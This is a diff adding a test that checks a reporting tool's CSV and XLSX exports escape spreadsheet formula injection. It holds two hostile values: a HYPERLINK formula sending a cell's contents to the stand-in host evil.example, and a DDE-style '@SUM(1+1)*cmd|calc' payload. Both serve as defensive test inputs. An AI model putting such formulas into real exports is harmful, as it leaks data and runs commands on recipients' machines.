@@ -249,3 +249,25 @@ def test_cli_says_when_the_database_is_unreachable(argv: list[str], tmp_path: Pa
     )
     assert done.exit_code == 2 and "cannot reach the database" in done.output
     assert not out.exists()
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_firm_named_like_a_formula_stays_text(reports_fleet: Fleet, tmp_path: Path) -> None:
+    """The regulator's CSV and XLSX never carry a live formula from registry text (issue 16)."""
+    import psycopg
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    with psycopg.connect(reports_fleet.url, autocommit=True) as conn:
+        conn.execute("UPDATE maintenance_firms SET name = %s WHERE name = 'Firm B'", (evil,))
+        conn.execute("UPDATE elevators SET district = '@SUM(1+1)*cmd|calc' WHERE district IS NOT NULL")
+    text = _run(reports_fleet, tmp_path, "csv", "en").read_bytes().decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + evil in cells
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    book = openpyxl.load_workbook(_run(reports_fleet, tmp_path, "xlsx", "en"))
+    every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in every if cell.data_type == "f"] == []
+    texts = [cell.value for cell in every if isinstance(cell.value, str)]
+    assert "'" + evil in texts and [value for value in texts if value.startswith(FORMULA_STARTS)] == []
